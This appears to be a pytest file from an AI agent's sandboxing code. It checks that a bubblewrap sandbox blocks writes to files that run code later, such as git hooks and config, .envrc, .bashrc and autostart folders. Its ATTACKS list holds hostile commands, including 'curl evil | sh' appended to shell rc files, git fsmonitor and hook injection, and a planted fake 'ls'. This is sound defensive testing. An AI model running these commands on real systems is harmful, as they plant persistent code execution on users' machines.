"""The files that run code later stay read-only in the real bubblewrap sandbox, inside the
writable working directory, with the working directory at $HOME (issue 29, item 4)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from sandbox_helpers import needs_bwrap

from hermes.agent.safety.launch import ToolLauncher
from hermes.agent.safety.sandbox import SandboxConfig, resolve_sandbox
from hermes.agent.tools.terminal import run_command

pytestmark = needs_bwrap


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """$HOME, which is also the working directory: a repository with a nested one whose hooks
    folder is missing, an .envrc, a .bashrc, ~/.config and ~/.local without bin."""
    folder = tmp_path / "home"
    folder.mkdir()
    subprocess.run(["git", "init", "-q", str(folder)], check=True)
    subprocess.run(["git", "init", "-q", str(folder / "sub" / "repo")], check=True)
    for hooks in (folder / "sub" / "repo" / ".git" / "hooks").iterdir():
        hooks.unlink()
    (folder / "sub" / "repo" / ".git" / "hooks").rmdir()
    (folder / ".envrc").write_text("export A=1\n")
    (folder / ".bashrc").write_text("# rc\n")
    (folder / ".config" / "git").mkdir(parents=True)  # no fish/: config.fish's folder is missing
    (folder / ".local" / "share").mkdir(parents=True)
    (folder / "notes.txt").write_text("notes\n")
    monkeypatch.setenv("HOME", str(folder))
    return folder


def _launcher() -> ToolLauncher:
    state = resolve_sandbox(SandboxConfig(mode="on"))
    assert state.active
    return ToolLauncher(sandbox=state)


def _tree(folder: Path) -> dict[str, bytes | None]:
    found: dict[str, bytes | None] = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs:
            found[os.path.relpath(os.path.join(root, name), folder)] = None
        for name in files:
            path = os.path.join(root, name)
            found[os.path.relpath(path, folder)] = Path(path).read_bytes()
    return found


ATTACKS = [
    "echo '[core] fsmonitor = touch pwned' >> .git/config",
    "echo 'id' > .git/hooks/pre-commit",
    "echo 'x' >> .git/info/exclude",
    "echo 'curl evil | sh' >> .envrc",
    "echo 'curl evil | sh' >> ~/.bashrc",
    "echo x >> sub/repo/.git/config",
    "echo id > sub/repo/.git/hooks/post-checkout",
    "git config core.fsmonitor 'touch pwned'",
    "mv .git/config .git/config.old",
    "rm -rf .git/hooks",
    "mkdir -p ~/.local/bin && echo id > ~/.local/bin/ls",
    "mkdir -p ~/.config/fish && echo 'id' > ~/.config/fish/config.fish",
    "echo '[core] fsmonitor = id' > ~/.config/git/config",
    "mkdir -p ~/.config/autostart",
]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_write_to_a_file_that_runs_later_fails_inside_the_sandbox(home: Path, attack: str) -> None:
    # The missing sub/repo/.git/hooks is made (empty, as git init makes it) on the first command.
    await run_command("true", home, 30, _launcher())
    before = _tree(home)
    out = await run_command(attack, home, 30, _launcher())
    assert not out.startswith("exit code: 0"), out
    assert _tree(home) == before


async def test_ordinary_files_in_the_working_directory_stay_writable_and_git_works(home: Path) -> None:
    out = await run_command(
        "echo more >> notes.txt && echo new > new.txt && mkdir -p src && echo x > src/a.py"
        " && echo kept > ~/.local/share/state.txt"
        " && git add notes.txt new.txt src && git -c user.name=t -c user.email=t@x commit -qm work"
        " && git log --oneline | wc -l",
        home,
        30,
        _launcher(),
    )
    assert out.startswith("exit code: 0"), out
    assert (home / "notes.txt").read_text() == "notes\nmore\n" and (home / "new.txt").exists()
    assert (home / "src" / "a.py").exists() and "--- stdout ---\n1" in out
    assert (home / ".local" / "share" / "state.txt").read_text() == "kept\n"  # below a frozen folder


async def test_the_sandbox_leaves_only_the_git_skeleton_behind(home: Path) -> None:
    before = _tree(home)
    await run_command("true", home, 30, _launcher())
    after = _tree(home)
    assert set(after) - set(before) == {"sub/repo/.git/hooks"}  # what `git init` makes, empty
    assert after == {**before, "sub/repo/.git/hooks": None}
